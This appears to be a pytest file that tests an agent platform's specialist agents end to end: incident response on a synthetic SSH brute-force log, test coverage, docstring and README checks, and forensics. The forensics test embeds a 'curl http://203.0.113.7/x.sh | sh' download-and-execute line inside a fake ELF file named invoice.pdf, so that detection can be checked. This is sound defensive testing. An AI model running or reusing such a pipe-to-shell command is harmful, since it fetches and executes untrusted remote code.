"""The artefact specialists end to end through the API: real tools, a scripted model, grounded findings."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.api.test_tasks_api import wait_status
from tests.conftest import LiveServer, serve


def _auth_log() -> str:
    lines = [
        f"Mar  3 10:{minute:02d}:{second:02d} web sshd[4242]: Failed password for root from 203.0.113.9 "
        f"port {40000 + minute * 60 + second} ssh2"
        for minute in range(2)
        for second in range(0, 60, 4)
    ]
    lines.append(
        "Mar  3 10:02:10 web sshd[4243]: Accepted password for root from 203.0.113.9 port 41999 ssh2"
    )
    lines.append("Mar  3 10:05:00 web CRON[99]: (root) CMD (run-parts /etc/cron.hourly)")
    return "\n".join(lines) + "\n"


CODE_TREE = {
    "shop/cart.py": (
        '"""Shopping cart."""\n\n\n'
        "def total(prices, discount=None):\n"
        '    """Sum the prices.\n\n    Args:\n'
        "        prices: Item prices.\n        rebate: A rebate.\n"
        '    """\n'
        "    value = sum(prices)\n"
        "    if discount is not None:\n"
        "        value -= discount\n"
        "    if value < 0:\n"
        '        raise ValueError("negative total")\n'
        "    return value\n\n\n"
        "def shipping(weight):\n"
        "    return 5 if weight < 10 else 12\n"
    ),
    "tests/test_cart.py": (
        "from shop.cart import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n"
    ),
    "README.md": "# Shop\n\nA small shop.\n\n#### Deep heading\n\nSee [the guide](docs/guide.md).\n",
}


async def _run(server: LiveServer, task_type: str, files: dict[str, str]) -> dict[str, Any]:
    body = {
        "title": f"{task_type} check",
        "task_type": task_type,
        "inputs": {"files": [{"name": name, "content": content} for name, content in files.items()]},
    }
    async with server.client() as client:
        created = (await client.post("/api/v1/tasks", json=body)).json()
        assert "id" in created, created
        task = await wait_status(client, created["id"])
        assert task["status"] == "succeeded", task["error"]
        result = dict((await client.get(f"/api/v1/tasks/{task['id']}/result")).json())
        events = (await client.get(f"/api/v1/tasks/{task['id']}/events")).json()["data"]
    result["tools_called"] = [e["data"]["tool"] for e in events if e["type"] == "tool.called"]
    result["agents"] = [s["agent_id"] for s in task["plan"]["steps"]]
    return result


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Any:
    with serve(Path(tmp_path_factory.mktemp("specialists"))) as live:
        yield live


async def test_incident_responder_finds_the_brute_force_and_the_login_that_followed(
    server: LiveServer,
) -> None:
    result = await _run(server, "incident_response", {"auth.log": _auth_log()})
    assert result["agents"] == ["incident_responder", "reporter"]
    assert {"log_parse", "log_bruteforce", "log_error_bursts", "log_timeline"} <= set(result["tools_called"])
    grounded = [f for f in result["findings"] if f["grounded"]]
    compromise = [
        f for f in grounded if f["severity"] == "high" and "203.0.113.9" in f["description"] + f["title"]
    ]
    assert compromise, [f["title"] for f in grounded]
    cited = {e["id"] for e in result["evidence"]}
    assert set(compromise[0]["evidence_ids"]) <= cited


async def test_testing_coordinator_maps_tests_and_lists_the_untested_function(server: LiveServer) -> None:
    result = await _run(server, "testing", CODE_TREE)
    assert result["agents"] == ["testing_coordinator", "reporter"]
    assert result["tools_called"][:3] == ["test_map", "untested_functions", "test_plan"]
    summaries = " ".join(e["summary"] for e in result["evidence"])
    grounded = [f for f in result["findings"] if f["grounded"] and f["agent_id"] == "testing_coordinator"]
    assert grounded
    # total() is referenced by a test, shipping() is not.
    assert "1/2 public callables" in summaries


async def test_documentation_specialist_checks_docstrings_and_the_readme(server: LiveServer) -> None:
    result = await _run(server, "documentation", CODE_TREE)
    assert result["agents"] == ["documentation_specialist", "reporter"]
    assert result["tools_called"][:3] == ["docstring_coverage", "readme_check", "api_reference"]
    text = " ".join(f["title"] + " " + f["description"] for f in result["findings"] if f["grounded"])
    assert "rebate" in text  # documented parameter that does not exist
    assert "install" in text.lower()  # the README has no install section


async def test_forensics_investigator_flags_a_disguised_executable_with_a_dropper(server: LiveServer) -> None:
    import base64

    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"curl http://203.0.113.7/x.sh | sh\x00" * 3
    body = {
        "title": "forensics check",
        "task_type": "forensics",
        "inputs": {
            "files": [
                {"name": "invoice.pdf", "content": base64.b64encode(elf).decode(), "encoding": "base64"}
            ]
        },
    }
    async with server.client() as client:
        created = (await client.post("/api/v1/tasks", json=body)).json()
        task = await wait_status(client, created["id"])
        assert task["status"] == "succeeded", task["error"]
        result = (await client.get(f"/api/v1/tasks/{task['id']}/result")).json()
    grounded = [f for f in result["findings"] if f["grounded"] and f["agent_id"] == "forensics_investigator"]
    severities = {f["severity"] for f in grounded}
    assert "high" in severities  # download-and-execute
    assert any("invoice.pdf" in (f["title"] + f["description"]) for f in grounded)
